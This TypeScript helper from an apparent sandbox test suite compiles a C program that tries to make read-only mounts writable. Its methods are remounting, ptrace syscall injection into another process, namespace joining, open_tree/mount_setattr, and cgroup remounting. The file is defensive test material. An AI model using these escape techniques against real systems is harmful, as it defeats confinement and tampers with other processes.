import { execFileSync } from 'node:child_process';
import { existsSync, writeFileSync } from 'node:fs';
import { machine } from 'node:os';
import { join } from 'node:path';
import { temporaryDirectory } from './temporary.ts';

/** What the attacking program needs; its registers are those of one architecture. */
export const attackRequirement = {
  missing: (): string | undefined =>
    machine() === 'x86_64' && existsSync('/usr/bin/gcc') ? undefined : 'needs x86_64 and /usr/bin/gcc',
};

/**
 * `attack HOW PID TARGET` tries to make TARGET, a mount that is read-only, writable, and prints `done` or the errno.
 *
 * - `remount`: by itself
 * - `trace`: another process is made to do it, by ptrace(2)
 * - `join`: in the namespaces of the process
 * - `tree`: on a copy of the mount
 * - `nested`: in a user and a mount namespace of its own
 * - `groups`: PID is a controller; TARGET is a setting of its control group, which is mounted anew and written to
 */
const source = `
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static void end(long result) {
  puts(result >= 0 ? "done" : strerrorname_np(errno));
  exit(result >= 0 ? 0 : 1);
}

static void need(long result, const char *what) {
  if (result >= 0) return;
  printf("%s: %s\\n", what, strerrorname_np(errno));
  exit(1);
}

static long remount(const char *target) { return mount("none", target, 0, MS_REMOUNT | MS_BIND, 0); }

static void trace(pid_t pid, const char *target) {
  struct user_regs_struct saved, used;
  char text[512] = {0};
  need(ptrace(PTRACE_ATTACH, pid, 0, 0), "attach");
  waitpid(pid, 0, __WALL);
  ptrace(PTRACE_GETREGS, pid, 0, &saved);
  used = saved;
  strncpy(text, target, sizeof text - 1);
  for (size_t at = 0; at < sizeof text; at += 8)
    ptrace(PTRACE_POKEDATA, pid, saved.rsp - 1024 + at, *(long *)(text + at));
  used.rip = saved.rip - 2;
  used.orig_rax = -1;
  used.rax = SYS_mount;
  used.rdi = used.rsi = saved.rsp - 1024;
  used.rdx = used.r8 = 0;
  used.r10 = MS_REMOUNT | MS_BIND;
  ptrace(PTRACE_SETREGS, pid, 0, &used);
  ptrace(PTRACE_SINGLESTEP, pid, 0, 0);
  waitpid(pid, 0, __WALL);
  ptrace(PTRACE_GETREGS, pid, 0, &used);
  ptrace(PTRACE_SETREGS, pid, 0, &saved);
  ptrace(PTRACE_DETACH, pid, 0, 0);
  errno = -(long)used.rax;
  end((long)used.rax);
}

static int namespace_of(const char *pid, const char *kind) {
  char path[128];
  snprintf(path, sizeof path, "/proc/%s/ns/%s", pid, kind);
  int opened = open(path, O_RDONLY);
  need(opened, "open");
  return opened;
}

int main(int count, char **words) {
  (void)count;
  const char *how = words[1], *pid = words[2], *target = words[3];
  if (strcmp(how, "trace") == 0) trace(atoi(pid), target);
  if (strcmp(how, "join") == 0) {
    int user = namespace_of(pid, "user");
    need(unshare(CLONE_NEWUSER), "unshare");
    need(setns(user, CLONE_NEWUSER), "setns");
  }
  if (strcmp(how, "groups") == 0) {
    int sysctl = open("/proc/sys/user/max_cgroup_namespaces", O_WRONLY);
    if (sysctl >= 0) write(sysctl, "99", 2);
    need(unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP), "unshare");
    need(mount("none", "/tmp", "cgroup", 0, pid), "mount");
    need(chdir("/tmp"), "chdir");
    int setting = open(target, O_WRONLY);
    need(setting, "open");
    end(write(setting, "max", 3));
  }
  if (strcmp(how, "nested") == 0) need(unshare(CLONE_NEWUSER | CLONE_NEWNS), "unshare");
  if (strcmp(how, "tree") == 0) {
    struct { unsigned long long set, clear, propagation, userns; } change = { 0, 1, 0, 0 };
    int tree = syscall(SYS_open_tree, AT_FDCWD, target, 1 | O_CLOEXEC | AT_RECURSIVE);
    need(tree, "open_tree");
    end(syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH | AT_RECURSIVE, &change, sizeof change));
  }
  end(remount(target));
}
`;

/** The program, static, in a new directory. */
export function buildAttack(): string {
  const directory = temporaryDirectory('attack');
  const [text, program] = [join(directory, 'attack.c'), join(directory, 'attack')];
  writeFileSync(text, source);
  execFileSync('/usr/bin/gcc', ['-static', '-O1', '-o', program, text]);
  return program;
}
